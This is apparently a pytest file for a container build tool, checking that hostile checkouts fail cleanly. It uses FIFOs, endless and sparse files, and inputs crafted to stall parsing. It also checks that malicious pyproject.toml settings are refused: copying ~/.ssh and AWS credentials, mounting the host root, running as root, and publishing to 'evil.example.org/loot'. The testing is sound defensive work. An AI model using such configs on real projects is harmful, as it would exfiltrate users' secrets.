"""A checkout with hostile files: nothing hangs or fills the host, and one error names the file."""

from __future__ import annotations

import os
import resource
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.unit.command import command_project
from tests.unit.processes import SECONDS, environment

if TYPE_CHECKING:
    from collections.abc import Callable

_MEMORY_BYTES = 2 << 30
PROJECT = "[project]\nname = 'x'\nversion = '1'\ndependencies = ['rich']\n"
NAMES = (
    *("pyproject.toml", "requirements.txt", "uv.lock", "poetry.lock", "pdm.lock", "Pipfile.lock"),
    *("pylock.toml", "setup.cfg", ".python-version", ".containerignore", ".dockerignore"),
    *("app.py", "Containerfile", ".env"),
)


@pytest.fixture(autouse=True)
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    return command_project(tmp_path, monkeypatch, "print(1)\n")


def fifo(path: Path) -> None:
    os.mkfifo(path)


def endless(path: Path) -> None:
    path.symlink_to("/dev/zero")


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 40)


def buildr(*words: str) -> subprocess.CompletedProcess[str]:
    """Run the command with little memory, so that unbounded reads fail with a traceback."""
    return subprocess.run(
        [sys.executable, "-m", "buildr", *words],
        env=environment({name: os.environ[name] for name in os.environ if name[:7] == "BUILDR_"}),
        check=False,
        capture_output=True,
        text=True,
        timeout=SECONDS,
        preexec_fn=lambda: resource.setrlimit(
            resource.RLIMIT_AS, (_MEMORY_BYTES, resource.RLIM_INFINITY)
        ),
    )


@pytest.mark.parametrize("make", [fifo, endless, sparse, Path.mkdir])
@pytest.mark.parametrize("name", NAMES)
def test_an_invalid_file_is_one_error(
    project: Path, monkeypatch: pytest.MonkeyPatch, name: str, make: Callable[[Path], None]
) -> None:
    if name.endswith(".lock"):
        (project / "pyproject.toml").write_text(PROJECT)
    path = project / name
    path.unlink(missing_ok=True)
    make(path)
    words = ["eject", "-o", "../out"]
    if name == ".env":
        words = ["quadlet", "--env-file", ".env"]
    elif name == "Containerfile":
        monkeypatch.setenv("BUILDR_PACKAGE_DOCKERFILE", name)
        words = ["containerfile"]
    result = buildr(*words, "app.py")
    # The named script is not a script at all.
    assert result.returncode == (2 if name == "app.py" and make is not sparse else 125)
    said = [line for line in result.stderr.splitlines() if line.startswith("buildr: error: ")]
    assert len(said) == 1
    assert name in said[0]
    assert "Traceback" not in result.stderr
    assert not (project.parent / "out").exists()


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("app.py", "# /// script\n" * (1 << 18)),
        ("app.py", "# /// script\n# ///\n" * (1 << 17)),
        ("app.py", "# /// x\n" + "# /// script\n" * (1 << 18) + "# ///\n"),
        ("requirements.txt", "./" + "[" * (1 << 20) + "\n"),
        ("requirements.txt", "a" + " " * (1 << 20) + "x\n"),
        ("pyproject.toml", "[tool.buildr]\nx = " + "[" * (1 << 19) + "\n"),
        ("pyproject.toml", "[tool.buildr]\nworkspace = " + "{a=" * (1 << 18) + "\n"),
        (".dockerignore", "*a*a*a*a*b\n" * (10 << 10) + "**/" * (4 << 10) + "z\n"),
    ],
    ids=["open", "empty", "inside", "extras", "blanks", "lists", "tables", "ignore"],
)
def test_text_crafted_to_take_forever_is_read_quickly(project: Path, name: str, text: str) -> None:
    (project / ("a" * 200)).touch()
    (project / name).write_text(text)
    result = buildr("eject", "-o", "../out", "app.py")
    assert result.returncode in (0, 125)
    assert "Traceback" not in result.stderr


def test_the_first_checkout_gets_nothing(project: Path) -> None:
    """A pyproject.toml of seven lines that requests a home's keys, all files, root, and the host's variables."""
    (project / "pyproject.toml").write_text(
        "[tool.buildr.package]\n"
        'additional_files = [{ src = "~/.ssh", dest = "/loot/ssh" }]\n'
        'include_secrets = true\nuser = "root"\n'
        "[tool.buildr.runtime]\n"
        'mounts = ["/:/host"]\nenv = ["AWS_SECRET_ACCESS_KEY"]\nenv_file = "~/.aws/credentials"\n'
    )
    asked = refused("run", "app.py")
    assert asked == [
        *("package.additional_files", "package.include_secrets", "package.user"),
        *("runtime.env", "runtime.env_file", "runtime.mounts"),
    ]


def test_the_second_checkout_gets_nothing(project: Path) -> None:
    (project / "pyproject.toml").write_text(
        "[tool.buildr.package]\n"
        'secrets = ["pip", "id=k,src=~/.ssh/id_ed25519", "id=AWS_SECRET_ACCESS_KEY"]\n'
        'additional_files = [{ src = "~/.ssh", dest = "/loot/ssh" }, { src="/etc/hostname", dest="/loot/hostname"}]\n'
        'include_secrets = true\nuser = "root"\ndependencies = ["./x"]\n'
        'repository = "evil.example.org/loot"\npublish = true\n'
        "[tool.buildr.runtime]\n"
        'mounts = ["/:/host"]\nenv = ["AWS_SECRET_ACCESS_KEY"]\nenv_file = "~/.aws/credentials"\n'
        'devices = ["/dev/kmsg"]\nrestart = "always"\ndetach = true\npublic = true\nports = [8080]\n'
    )
    asked = refused("build", "app.py")
    assert asked == [
        *("package.additional_files", "package.include_secrets", "package.publish"),
        *("package.secrets", "package.user", "runtime.devices", "runtime.env"),
        *("runtime.env_file", "runtime.mounts", "runtime.public", "runtime.restart"),
    ]


def refused(*words: str) -> list[str]:
    """Run a command that is refused; return the options in the error."""
    result = buildr(*words)
    assert result.returncode == 125
    lines = result.stderr.splitlines()
    found = {line.split()[0] for line in lines if line.startswith("  tool.buildr.")}
    return sorted(one.removeprefix("tool.buildr.").rstrip(":") for one in found)
